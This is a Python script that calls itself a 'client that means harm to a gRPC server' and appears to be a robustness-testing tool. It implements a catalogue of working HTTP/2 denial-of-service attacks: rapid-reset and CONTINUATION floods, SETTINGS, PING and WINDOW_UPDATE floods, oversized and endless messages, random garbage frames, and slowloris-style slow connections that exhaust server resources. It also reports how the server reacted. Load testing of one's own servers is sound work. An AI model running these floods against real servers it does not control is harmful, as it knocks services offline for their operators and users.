#!/usr/bin/env python3
"""A client that means harm to a gRPC server: hostileclient.py KIND HOST PORT SECONDS [tls]

Goes on for SECONDS, with a new connection when it is hung up on. Prints one line of JSON: what it sent,
how often the server ended a connection, and the last reason it gave. `held`: connections at the end.
"""

import json
import os
import resource
import select
import socket
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "lib"))

import h2raw as h2  # noqa: E402

KEY = "/management.ManagementService/GetServerKey"
CONNECT = "/signalexchange.SignalExchange/ConnectStream"
BEGIN = h2.PREFACE + h2.frame(h2.SETTINGS)
FULL = 16 * 1024 * 1024


def rapid_reset():
    for stream in range(1, 1 << 30, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.RST_STREAM, 0, stream, b"\0\0\0\x08")


def rapid_reset_full():
    """With the message: the server works before it hears of the reset."""
    for stream in range(1, 1 << 30, 2):
        yield (h2.request(stream, KEY) + h2.frame(h2.DATA, 0, stream, h2.message()) +
               h2.frame(h2.RST_STREAM, 0, stream, b"\0\0\0\x08"))


def settings():
    while True:
        yield h2.frame(h2.SETTINGS, 0, 0, h2.setting(4, 65535) * 6)


def ping():
    while True:
        yield h2.frame(h2.PING, 0, 0, b"12345678")


def continuation():
    yield h2.request(1, KEY, flags=0)
    while True:
        yield h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"name", b"value" * 100))


def huge_headers():
    for stream in range(1, 1 << 30, 2):
        block = h2.request_block(KEY, *[(b"name", b"v" * 4000)] * 15)
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        yield h2.frame(h2.HEADERS, 0, stream, pieces[0]) + b"".join(
            h2.frame(h2.CONTINUATION, h2.END_HEADERS if piece is pieces[-1] else 0, stream, piece)
            for piece in pieces[1:])


def streams():
    for stream in range(1, 1 << 30, 2):
        yield h2.request(stream, KEY)


def window_updates():
    while True:
        yield h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1")


def zero_window():
    """Asks for all that it may and takes nothing."""
    yield h2.frame(h2.SETTINGS, 0, 0, h2.setting(4, 0))
    for stream in range(1, 501, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message())


def announced():
    """16 MiB + 1, in words alone."""
    for stream in range(1, 1 << 30, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"x", FULL + 1))


def big_message():
    """16 MiB + 1, every byte of it."""
    for stream in range(1, 1 << 30, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.DATA, 0, stream, h2.message(b"", FULL + 1))
        for _ in range(FULL // 16384):
            yield h2.frame(h2.DATA, 0, stream, b"x" * 16384)
        yield h2.frame(h2.DATA, h2.END_STREAM, stream, b"x")


def endless_body():
    """As many incomplete messages as there are streams, a little at a time."""
    for stream in range(1, 401, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.DATA, 0, stream, h2.message(b"", 1000000))
    while True:
        for stream in range(1, 401, 2):
            yield h2.frame(h2.DATA, 0, stream, b"x" * 1000)


def garbage_messages():
    for stream in range(1, 1 << 30, 2):
        yield (h2.request(stream, "/management.ManagementService/Login") +
               h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(os.urandom(200))))


def garbage_frames():
    while True:
        yield os.urandom(1000)


def many_calls():
    """Nothing is wrong with any of them."""
    for stream in range(1, 1 << 30, 2):
        yield h2.request(stream, KEY) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message())


FLOODS = {function.__name__.replace("_", "-"): function for function in (
    rapid_reset, rapid_reset_full, settings, ping, continuation, huge_headers, streams, window_updates, zero_window,
    announced, big_message, endless_body, garbage_messages, garbage_frames, many_calls)}

# What a connection says at first, and then a byte a second.
SLOW = {
    "silence": (b"", b""),
    "slow-preface": (b"", h2.PREFACE),
    "slow-headers": (BEGIN + h2.frame(h2.HEADERS, 0, 1, h2.request_block(KEY)[:20]), b""),
    "endless-headers": (BEGIN + h2.request(1, KEY, flags=0), h2.frame(h2.CONTINUATION, 0, 1, b"x" * 1000)),
    "no-message": (BEGIN + h2.request(1, KEY), b""),
    "half-message": (BEGIN + h2.request(1, KEY) + h2.frame(h2.DATA, 0, 1, h2.message(b"x", 100)), b""),
    "tls-stall": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50), bytes(400)),
    "http1": (b"POST " + KEY.encode() + b" HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 100),
}


class Attack:
    def __init__(self, host, port, tls):
        self.host, self.port, self.tls = host, port, tls
        self.sent = self.n_connections = self.n_ended = self.n_refused = 0
        self.goaway = None
        self.statuses = {}

    def connect(self):
        try:
            sock = h2.connect(self.host, self.port, self.tls)
        except OSError:
            self.n_refused += 1
            time.sleep(0.01)
            return None
        self.n_connections += 1
        sock.setblocking(False)
        return sock

    def hear(self, frames, data):
        for kind, _, _, payload in frames.feed(data):
            if kind == h2.GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")

    def flood_once(self, pieces, until, listens):
        """On one connection, until it ends."""
        sock = self.connect()
        if not sock:
            return
        frames, out, pieces = h2.Frames(), BEGIN, iter(pieces)
        try:
            while time.monotonic() < until:
                while pieces and len(out) < 65536:
                    piece = next(pieces, None)
                    if piece is None:
                        pieces = None
                        break
                    out += piece
                readable, writable, _ = select.select([sock] if listens else [], [sock] if out else [], [], 0.1)
                if writable:
                    n = sock.send(out)
                    self.sent += n
                    out = out[n:]
                if readable:
                    data = sock.recv(65536)
                    if not data:
                        raise ConnectionError
                    self.hear(frames, data)
        except (OSError, ValueError):
            self.n_ended += 1
            try:
                while data := sock.recv(65536):
                    self.hear(frames, data)
            except OSError:
                pass
        sock.close()

    def flood(self, make, until, listens):
        while time.monotonic() < until:
            self.flood_once(make(), until, listens)

    def crowd(self, count, first, drip, until):
        """Many connections at once; drip: a byte of it on each, every second."""
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        open_, n_dripped, next_drip = {}, 0, time.monotonic() + 1
        poll = select.poll()
        for _ in range(count):
            sock = self.connect()
            if sock:
                open_[sock.fileno()] = sock
                poll.register(sock, select.POLLIN | select.POLLRDHUP)
                self.say(sock, first)
        while time.monotonic() < until and open_:
            for fd, _ in poll.poll(200):
                try:
                    data = open_[fd].recv(65536)
                except OSError:
                    data = b""
                if not data:
                    poll.unregister(fd)
                    open_.pop(fd).close()
                    self.n_ended += 1
            if n_dripped < len(drip) and time.monotonic() > next_drip:
                for sock in open_.values():
                    self.say(sock, drip[n_dripped:n_dripped + 1])
                n_dripped += 1
                next_drip += 1
        return len(open_)

    def say(self, sock, data):
        try:
            self.sent += sock.send(data) if data else 0
        except OSError:
            pass


def main():
    kind, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    attack = Attack(host, port, "tls" in sys.argv[5:])
    until = time.monotonic() + seconds
    held = 0
    if kind in FLOODS:
        attack.flood(FLOODS[kind], until, "deaf" not in sys.argv[5:])
    else:
        count = int(next((word for word in sys.argv[5:] if word.isdigit()), 20))
        held = attack.crowd(count, *SLOW[kind], until)
    print(json.dumps({"kind": kind, "sent": attack.sent, "connections": attack.n_connections,
                      "refused": attack.n_refused, "ended": attack.n_ended, "goaway": attack.goaway,
                      "held": held}))


main()
